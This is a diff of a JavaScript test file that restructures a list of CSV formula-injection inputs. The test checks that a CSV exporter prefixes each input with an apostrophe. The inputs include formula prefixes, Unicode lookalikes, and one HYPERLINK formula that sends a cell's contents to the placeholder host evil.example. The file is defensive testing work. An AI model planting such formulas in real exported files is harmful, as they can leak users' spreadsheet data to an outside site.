@@ -37,24 +37,20 @@ it('a CSV file writes cents as dollars, also below zero, and never as a formula'
 it('a CSV file has its columns without any row', async () =>
   expect(await written()).toBe('\uFEFF"Name","Length"\r\n'));
 
-it.each([
-  '=1+1',
-  '=HYPERLINK("http://evil.example?"&A1)',
-  '+1 555 0100',
-  '-2+3',
-  '@SUM(A1)',
-  '\t=1',
-  '\r=1',
-  '\n=1',
-  ' =1+1',
-  '\u00a0=1+1',
-  '\u200b=1+1',
-  '\uff1d1+1',
-  '\uff0b1',
-  '\uff0d1',
-  '\uff201',
-  '=1,2;"3"',
-])('a CSV file holds no formula: %j', async (evil) => {
+it.each(
+  [
+    [
+      '=1+1',
+      '=HYPERLINK("http://evil.example?"&A1)',
+      '+1 555 0100',
+      '-2+3',
+      '@SUM(A1)',
+      '=1,2;"3"',
+    ],
+    ['\t=1', '\r=1', '\n=1', ' =1+1', '\u00a0=1+1', '\u200b=1+1'],
+    ['\uff1d1+1', '\uff0b1', '\uff0d1', '\uff201'],
+  ].flat(),
+)('a CSV file holds no formula: %j', async (evil) => {
   const [, row] = read(await written([evil]));
   expect(row?.[0]).toBe(`'${evil}`);
 });
